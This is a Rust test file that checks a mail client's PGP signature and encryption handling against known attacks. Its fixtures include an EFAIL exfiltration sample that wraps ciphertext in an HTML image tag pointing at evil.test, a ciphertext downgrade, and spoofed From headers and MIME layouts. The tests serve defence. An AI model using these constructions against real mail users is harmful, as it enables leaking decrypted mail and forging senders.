//! Attacks on mail with signatures and seals (R33 to R45; Müller et al. 2019, Poddebniak et al. 2018).

use model::error::{CoreError, CoreErrorCode};
use model::mail::Author;
use seal::armor::{Kind, armored};
use seal::writing::cleartext_sign;
use sha2::{Digest as _, Sha256};
use wire::mail::{Arrival, MessageView};

use super::tests::{NOW, address, cert, key, known, rng};
use super::*;

const HEAD: &str =
    "From: alice@hedgerow.test\r\nTo: bob@hedgerow.test\r\nSubject: outside\r\nMIME-Version: 1.0\r\n";
const CONTENT: &str = "Content-Type: text/plain; hp=\"clear\"\r\nFrom: alice@hedgerow.test\r\nSubject: inside\r\n\r\nsigned words";

fn signed(content: &str) -> String {
    let signature = key("alice").sign_detached(&mut rng(), content.as_bytes(), NOW).unwrap();
    String::from_utf8(pgpmime::build_signed("sig", content.as_bytes(), &signature)).unwrap()
}

fn sealed(content: &str, by: Option<&str>) -> String {
    let (alice, bob) = (key("alice"), cert("bob"));
    let bytes = match by {
        Some(name) => key(name).seal_named(&mut rng(), content.into(), &[&bob], true, NOW),
        None => alice.seal_named(&mut rng(), content.into(), &[&bob], false, NOW),
    };
    let armor = armored(Kind::Message, &bytes.unwrap().bytes);
    String::from_utf8(pgpmime::build_encrypted("enc", &armor)).unwrap()
}

fn claim(mail: &str) -> Result<ClaimedMail, CoreError> {
    let bob = key("bob");
    ClaimedMail::read(mail.as_bytes(), Some(bob.fingerprint()), &|message| bob.open(message, 1_000_000))
}

fn read(mail: &str) -> VerifiedMail {
    let claimed = claim(mail).unwrap();
    let signer = claimed.from_address().as_ref().and_then(known);
    claimed.verify(signer.as_ref(), NOW)
}

/// Reads a mail in which nothing may be opened.
fn read_shut(mail: &str) -> VerifiedMail {
    let claimed = ClaimedMail::read(mail.as_bytes(), None, &|_| panic!("asked to open: {mail}")).unwrap();
    let signer = claimed.from_address().as_ref().and_then(known);
    claimed.verify(signer.as_ref(), NOW)
}

fn alices() -> Author {
    Author::Known { since: 5, fingerprint: key("alice").fingerprint().to_string() }
}

fn all_text(mail: &VerifiedMail) -> String {
    mail.sections().iter().map(VerifiedSection::text).collect()
}

fn mixed(parts: &[&str]) -> String {
    let parts: String = parts.iter().map(|part| format!("--mix\r\n{part}\r\n")).collect();
    format!("{HEAD}Content-Type: multipart/mixed; boundary=mix\r\n\r\n{parts}--mix--\r\n")
}

#[test]
fn what_is_honest_gets_its_badge() {
    let mail = read(&format!("{HEAD}{}", signed(CONTENT)));
    assert_eq!((mail.author(), mail.head().subject.as_str()), (&alices(), "inside"));
    let mail = read(&format!("{HEAD}{}", sealed(CONTENT, Some("alice"))));
    assert_eq!((mail.author(), mail.is_sealed()), (&alices(), true));
}

#[test]
fn efail_direct_exfiltration_opens_nothing() {
    let sealed = sealed(CONTENT, Some("alice"));
    let html = "Content-Type: text/html\r\n\r\n";
    let mail =
        read_shut(&mixed(&[&format!("{html}<img src=\"http://evil.test/"), &sealed, &format!("{html}\">")]));
    assert_eq!(mail.author(), &Author::Unsigned);
    assert!(!all_text(&mail).contains("signed words"));
    // Deeper, beside a text, and in a mail that is attached.
    read_shut(&mixed(&["\r\nhello", &sealed]));
    read_shut(&mixed(&[&format!("Content-Type: message/rfc822\r\n\r\n{HEAD}{sealed}")]));
    read_shut(&format!("{HEAD}Content-Type: message/rfc822\r\n\r\n{HEAD}{sealed}"));
    let wrapped =
        format!("Content-Type: multipart/related; boundary=rel\r\n\r\n--rel\r\n{sealed}\r\n--rel--");
    read_shut(&mixed(&["\r\nhello", &wrapped]));
}

#[test]
fn efail_gadgets_are_refused_before_anything_is_shown() {
    let bob = cert("bob");
    let bytes = key("alice").seal_named(&mut rng(), CONTENT.into(), &[&bob], false, NOW).unwrap().bytes;
    let refused = |bytes: &[u8]| {
        let entity = pgpmime::build_encrypted("enc", &armored(Kind::Message, bytes));
        claim(&format!("{HEAD}{}", String::from_utf8(entity).unwrap())).unwrap_err().code
    };
    for at in [bytes.len() - 1, bytes.len() - 30] {
        let mut flipped = bytes.clone();
        flipped[at] ^= 1;
        assert_eq!(refused(&flipped), CoreErrorCode::Tampered);
    }
    // The packet becomes one without integrity protection: SEIPD, tag 18, to SED, tag 9.
    let at = 2 + usize::from(bytes[1]);
    assert_eq!((bytes[0], bytes[at]), (0xc1, 0xd2));
    let mut stripped = bytes;
    stripped[at] = 0xc9;
    assert_eq!(refused(&stripped), CoreErrorCode::NoIntegrity);
}

/// The signed part is there, and something else is shown first, instead or beside it.
#[test]
fn mime_wrapping_gets_no_badge() {
    let good = signed(CONTENT);
    let wrap = |kind: &str, parts: &[&str]| mixed(parts).replace("multipart/mixed", kind);
    let pay = "Content-Type: text/plain\r\n\r\npay me";
    for mail in [
        wrap("multipart/mixed", &[pay, &good]),
        wrap("multipart/alternative", &[&good, pay]),
        wrap("multipart/related", &[pay, &good]),
        wrap("multipart/signed", &[pay, &good]),
        wrap("multipart/mixed", &[&format!("Content-Type: message/rfc822\r\n\r\n{HEAD}{good}")]),
        // In a mail of its own, below another multipart.
        wrap("multipart/mixed", &[pay, &mixed(&[&good]).replace("mix", "deep")]),
    ] {
        let mail = read(&mail);
        assert_eq!(mail.author(), &Author::Unsigned);
        assert_eq!(mail.body_author(), &Author::Unsigned);
        for section in mail.sections() {
            assert!(section.author() == &Author::Unsigned || section.text() == "signed words");
            assert!(!section.text().contains("pay") || section.author() == &Author::Unsigned);
        }
    }
}

/// What stands in a `multipart/signed` beside its two parts is neither signed nor shown with them.
#[test]
fn preamble_epilogue_and_third_parts_are_not_signed() {
    let good = signed(CONTENT);
    let preamble = good.replacen("\r\n\r\n--sig\r\n", "\r\n\r\npay me\r\n--sig\r\n", 1);
    for mail in [preamble, format!("{good}pay me\r\n")] {
        let mail = read(&format!("{HEAD}{mail}"));
        assert_eq!((mail.author(), all_text(&mail).as_str()), (&alices(), "signed words"));
    }
    let third = good.replace("--sig--", "--sig\r\nContent-Type: text/plain\r\n\r\npay me\r\n--sig--");
    let before =
        good.replacen("--sig\r\n", "--sig\r\nContent-Type: text/plain\r\n\r\npay me\r\n--sig\r\n", 1);
    let open = good.replace("--sig--\r\n", "");
    for mail in [third, before, open] {
        let mail = read(&format!("{HEAD}{mail}"));
        assert_eq!((mail.author(), mail.body_author()), (&Author::Unsigned, &Author::Unsigned));
    }
}

/// A list puts its footer beside the signed mail: the mail keeps its author, the footer has none.
#[test]
fn a_list_footer_has_no_part_in_the_badge() {
    let mail = read(&mixed(&[&signed(CONTENT), "Content-Type: text/plain\r\n\r\nunsubscribe at evil.test"]));
    assert_eq!((mail.author(), mail.head().subject.as_str()), (&Author::Unsigned, "outside"));
    let authors: Vec<_> = mail.sections().iter().map(|section| section.author().clone()).collect();
    assert_eq!(authors, [alices(), Author::Unsigned]);
    assert_eq!(mail.sections()[0].bytes(), CONTENT.as_bytes());
    assert!(mail.sections()[1].text().contains("evil"));
    // Into the signed text itself: broken.
    let mail = read(&format!("{HEAD}{}", signed(CONTENT).replace("signed words", "signed words\r\nfooter")));
    assert_eq!(mail.author(), &Author::Broken);
}

#[test]
fn a_signer_badges_nobody_but_himself() {
    let plain = "Content-Type: text/plain\r\n\r\nwords";
    let eve = "eve@evil.test";
    for (from, expected) in [
        ("From: \"alice@hedgerow.test\" <carol@hedgerow.test>\r\n".to_owned(), None),
        ("From: carol@hedgerow.test\r\nSender: alice@hedgerow.test\r\n".to_owned(), None),
        (format!("From: alice@hedgerow.test, {eve}\r\n"), Some(Author::Unchecked)),
        (format!("From: {eve}, alice@hedgerow.test\r\n"), Some(Author::Unchecked)),
        (format!("From: alice@hedgerow.test\r\nFrom: {eve}\r\n"), Some(Author::Unchecked)),
        (format!("From: {eve}\r\nFrom: alice@hedgerow.test\r\n"), Some(Author::Unchecked)),
        (format!("From: Alice <alice@hedgerow.test> <{eve}>\r\n"), Some(Author::Unchecked)),
        (format!("From: alice@hedgerow.test <{eve}>\r\n"), Some(Author::Unchecked)),
        ("From: friends: alice@hedgerow.test, bob@hedgerow.test;\r\n".to_owned(), Some(Author::Unchecked)),
        (format!("From: {eve}\\0alice@hedgerow.test\r\n").replace("\\0", "\0"), Some(Author::Unchecked)),
        ("Subject: nobody\r\n".to_owned(), Some(Author::Unchecked)),
    ] {
        let mail = read(&format!("{from}{}", signed(plain)));
        let signer = key("alice").fingerprint().to_string();
        let expected = expected.unwrap_or(Author::SomeoneElse { signer });
        // `claimed_signer` may say no more than a key id: only the kind is compared.
        let same = core::mem::discriminant(mail.body_author()) == core::mem::discriminant(&expected);
        assert!(same, "{from:?}: {:?}", mail.body_author());
        assert_eq!(mail.author(), &Author::Unsigned, "{from:?}");
    }
    // The certificate is given out for an address that it does not name.
    let claimed = claim(&format!("From: {eve}\r\n{}", signed(plain))).unwrap();
    let lie = KnownSigner { kind: SignerKind::New, ..known(&address("alice")).unwrap() };
    assert!(!claimed.is_by(&lie, NOW));
    assert!(matches!(claimed.verify(Some(&lie), NOW).body_author(), Author::SomeoneElse { .. }));
}

#[test]
fn outer_headers_count_for_nothing_where_there_are_inner_ones() {
    for (entity, sealed) in [(signed(CONTENT), false), (sealed(CONTENT, Some("alice")), true)] {
        for outer in [
            "Subject: pay me\r\nFrom: eve@evil.test\r\n",
            "From: alice@hedgerow.test\r\nSubject: a\r\nSubject: b\r\nTo: eve@evil.test\r\n",
            // Stripped of all but what a relay needs.
            "Received: from x\r\n",
        ] {
            let mail = read(&format!("{outer}{entity}"));
            assert_eq!((mail.author(), mail.is_sealed()), (&alices(), sealed), "{outer}");
            assert_eq!((mail.head().subject.as_str(), mail.head().to.len()), ("inside", 0));
            assert_eq!(mail.head().from.address, "alice@hedgerow.test");
        }
    }
}

/// RFC 9788 section 4.4: inside a seal that anybody can make, anybody can write any From.
#[test]
fn a_sealed_from_without_signature_does_not_replace_the_one_outside() {
    let eve = "From: eve@evil.test\r\nSubject: outside\r\n";
    let mail = read(&format!("{eve}{}", sealed(CONTENT, None)));
    assert_eq!((mail.author(), mail.head().from.address.as_str()), (&Author::Unsigned, "eve@evil.test"));
    // Signed by somebody else than it says: neither.
    let mail = read(&format!("{eve}{}", sealed(CONTENT, Some("carol"))));
    assert_eq!(mail.head().from.address, "eve@evil.test");
    assert!(matches!(mail.author(), Author::SomeoneElse { .. }));
    let mail = read(&format!("{eve}{}", sealed(CONTENT, Some("alice"))));
    assert_eq!((mail.author(), mail.head().from.address.as_str()), (&alices(), "alice@hedgerow.test"));
}

/// Older form: fields that are not inside come from outside, and then the header is not signed.
#[test]
fn a_signed_subject_does_not_sign_the_author_beside_it() {
    let content = "Content-Type: text/plain; protected-headers=\"v1\"\r\nSubject: inside\r\n\r\nwords";
    let mail = read(&format!("{HEAD}{}", signed(content)));
    assert_eq!((mail.author(), mail.body_author()), (&Author::Unsigned, &alices()));
    assert_eq!(mail.head().subject, "inside");
    // An attached mail has a header, and the mail around it does not get it.
    let content = format!("Content-Type: message/rfc822\r\n\r\n{HEAD}\r\nforwarded");
    let mail = read(&format!("From: carol@hedgerow.test\r\nSubject: fw\r\n{}", signed(&content)));
    assert_eq!(mail.head().from.address, "carol@hedgerow.test");
    assert!(matches!(mail.body_author(), Author::SomeoneElse { .. }));
}

#[test]
fn a_signature_outside_the_seal_says_nothing_of_what_is_inside() {
    let inner = sealed("Content-Type: text/plain\r\n\r\nby eve", None);
    let mail = read(&format!("{HEAD}{}", signed(inner.trim_end())));
    assert_eq!((mail.author(), mail.body_author()), (&Author::Unsigned, &Author::Unsigned));
    assert!(mail.is_sealed() && all_text(&mail).contains("by eve"));
    // The same where it cannot be opened.
    let shut = ClaimedMail::read(format!("{HEAD}{}", signed(inner.trim_end())).as_bytes(), None, &|_| {
        Err(CoreErrorCode::NoKeyForMessage.into())
    });
    let mail = shut.unwrap().verify(known(&address("alice")).as_ref(), NOW);
    assert_eq!((mail.author(), mail.body_author()), (&Author::Unsigned, &Author::Unsigned));
}

/// Carol seals on to Bob what Alice signed for her.
#[test]
fn a_message_passed_on_is_not_for_its_new_reader() {
    let carol = cert("carol");
    let bytes = key("alice").sign_and_seal(&mut rng(), CONTENT.into(), &[&carol], NOW).unwrap().bytes;
    let opened = key("carol").open(&bytes, 10_000).unwrap();
    let (content, claims, _) = opened.into_parts();
    // What she can pass on with its signature is the same signed message, under a seal of her own.
    let passed = key("bob");
    let verdict = claims[0].check_with(
        [known(&address("alice")).unwrap().cert.cert()],
        Some(passed.fingerprint()),
        NOW,
    );
    assert!(!verdict.is_good(), "{verdict:?}");
    assert_eq!(content, CONTENT.as_bytes());
}

fn cleartext(text: &str) -> String {
    let alice = key("alice");
    let pen = alice.as_cert().signing_keys(NOW).unwrap();
    let pens: Vec<&dyn seal::writing::SigningKey> = pen.iter().map(|key| key as _).collect();
    String::from_utf8_lossy(&cleartext_sign(text.as_bytes(), &pens, &mut rng(), NOW).unwrap()).into_owned()
}

/// The charset of a text is not signed: it must not turn signed octets into other words.
#[test]
fn a_charset_does_not_change_what_was_signed() {
    let block = cleartext("I owe you +AKM-5 or $B1_5M(B").replace("\r\n", "\n").replace('\n', "\r\n");
    for charset in ["utf-8", "utf-7", "utf-16le", "iso-2022-jp", "koi8-r", "x-evil"] {
        let mail = read(&format!("{HEAD}Content-Type: text/plain; charset={charset}\r\n\r\n{block}"));
        let [only] = mail.sections() else { panic!("{charset}: {} sections", mail.sections().len()) };
        assert_eq!((only.author(), only.text()), (&alices(), "I owe you +AKM-5 or $B1_5M(B"), "{charset}");
    }
}

#[test]
fn words_around_an_inline_signature_are_not_signed() {
    let block = cleartext("signed words");
    let plain = |body: &str| format!("{HEAD}Content-Type: text/plain\r\n\r\n{body}");
    for body in [
        format!("pay me\r\n{block}"),
        format!("{block}\r\npay me"),
        format!("pay me\r\n{block}\r\npay me\r\n{block}"),
        format!("-----BEGIN PGP SIGNED MESSAGE-----\r\npay me\r\n{block}"),
        block.replacen("\n\n", "\npay: me\n\n", 1),
        block.replacen("-----BEGIN PGP SIGNATURE", "pay me\n-----BEGIN PGP SIGNATURE", 1),
    ] {
        let mail = read(&plain(&body));
        assert_eq!(mail.author(), &Author::Unsigned);
        for section in mail.sections() {
            let good = section.author() == &alices();
            assert!(!good || section.text() == "signed words", "{body}: {}", section.text());
        }
        assert_ne!(mail.body_author(), &alices(), "{body}");
    }
    // HTML that shows a block with other words around it is no text to look into.
    let html = read(&format!("{HEAD}Content-Type: text/html\r\n\r\n<pre>{block}</pre>"));
    assert_eq!(html.body_author(), &Author::Unsigned);
}

/// A captured message between words of the attacker: an answer would carry its content back to him.
#[test]
fn a_reply_oracle_gets_nothing_opened() {
    let bob = cert("bob");
    let bytes = key("alice").sign_and_seal(&mut rng(), "captured".into(), &[&bob], NOW).unwrap().bytes;
    let block = armored(Kind::Message, &bytes);
    let plain = |body: &str| format!("{HEAD}Content-Type: text/plain\r\n\r\n{body}");
    for mail in [
        plain(&format!("What do you think of this?\r\n{block}")),
        plain(&format!("{block}\r\nWhat do you think?")),
        plain(&format!("{block}\r\n{block}")),
        mixed(&["\r\nWhat do you think?", &format!("Content-Type: text/plain\r\n\r\n{block}")]),
        mixed(&[&signed(CONTENT), &format!("Content-Type: text/plain\r\n\r\n{block}")]),
    ] {
        assert!(!all_text(&read_shut(&mail)).contains("captured"));
    }
    assert_eq!(all_text(&read(&plain(&block))), "captured");
}

#[test]
fn an_unreadable_signature_is_not_passed_over() {
    let good = signed(CONTENT);
    let begin = good.find("-----BEGIN PGP SIGNATURE").unwrap();
    let end = good.find("\r\n--sig--").unwrap();
    for signature in ["", "xx", "-----BEGIN PGP SIGNATURE-----\r\n\r\nwsA=\r\n-----END PGP SIGNATURE-----"] {
        let mail = read(&format!("{HEAD}{}{signature}{}", &good[..begin], &good[end..]));
        assert_eq!(mail.author(), &Author::Broken);
    }
}

fn sealed_to_bob(content: Vec<u8>) -> Vec<u8> {
    let (bob, naming) = (key("bob"), seal::sealing::Naming::Blank);
    seal::sealing::seal(&mut rng(), content, &[bob.certificate()], None, naming, NOW).unwrap().bytes
}

/// A mail as a server seals it that says this of it, with the row that it made of the true one.
fn arrived(
    mail: &str,
    arrival: Arrival,
    row: impl Fn(letter::Summary) -> letter::Summary,
) -> model::mail::OpenedMessage {
    let blob = sealed_to_bob(mail.into());
    let row = row(letter::arrival::row(mail.as_bytes(), hex::encode(Sha256::digest(&blob)), NOW));
    let view = MessageView {
        id: Default::default(),
        folder: Default::default(),
        uid: 1,
        blob: Default::default(),
        size: 0,
        received_at: NOW,
        flags: vec![],
        seq: 1,
        arrival,
        summary: sealed_to_bob(letter::summary::write(&row)).into(),
    };
    open_message(&key("bob"), &view, &blob, &known, NOW).unwrap().message
}

/// Attack: the server shows another line in the list than the mail it took. An honest server saw the outside only,
/// which is not called a lie.
#[test]
fn a_row_of_the_server_stands_for_the_outside_and_for_nothing_else() {
    let html = format!("{HEAD}Content-Type: text/html\r\n\r\n<p>Some <b>bold</b> &copy; words</p>");
    let undated = "Subject: no author\r\n\r\nx\r\n".to_owned();
    let within = format!("{HEAD}{}", sealed(CONTENT, Some("alice")));
    for mail in [&html, &undated, &within] {
        let arrive = |arrival, row: &dyn Fn(letter::Summary) -> letter::Summary| arrived(mail, arrival, row);
        assert!(!arrive(Arrival::SealedOnArrival, &|row| row).summary_differs, "{mail}");
        for lie in [
            &|row| letter::Summary { subject: "Your account is closed".into(), ..row },
            &|row| letter::Summary { snippet: "Call this number".into(), ..row },
            &|mut row: letter::Summary| {
                row.from.address = "boss@hedgerow.test".into();
                row
            },
        ] as [&dyn Fn(letter::Summary) -> letter::Summary; 3]
        {
            assert!(arrive(Arrival::SealedOnArrival, lie).summary_differs, "{mail}");
        }
    }
    // What is said to have come sealed is measured by what it says within.
    assert!(arrived(&within, Arrival::Sealed, |row| row).summary_differs);
}

/// What arrives as it is and is sealed by the server: read as it came, and called end-to-end only if its author
/// sealed it.
#[test]
fn mail_sealed_on_arrival_is_called_what_it_is() {
    use model::mail::Readers;
    let arrive = |mail: &str| arrived(mail, Arrival::SealedOnArrival, |row| row);
    let plain = arrive(&format!("{HEAD}Content-Type: text/plain\r\n\r\nplain words"));
    assert_eq!((plain.readers, plain.author), (Readers::SealedOnArrival, Author::Unsigned));
    let mail = arrive(&format!("{HEAD}{}", signed(CONTENT)));
    assert_eq!((mail.readers, mail.author), (Readers::SealedOnArrival, alices()));
    let text = signed("Content-Type: text/plain\r\n\r\nwords");
    let fingerprint = key("alice").fingerprint().to_string();
    assert_eq!(arrive(&format!("{HEAD}{text}")).author, Author::TextOnly { fingerprint });
    assert_eq!(arrive(&format!("{HEAD}{}", text.replace("words", "wards"))).author, Author::Unsigned);
    let mail = arrive(&format!("{HEAD}{}", sealed(CONTENT, Some("alice"))));
    assert_eq!((mail.readers, mail.author, mail.subject.as_str()), (Readers::EndToEnd, alices(), "inside"));
}
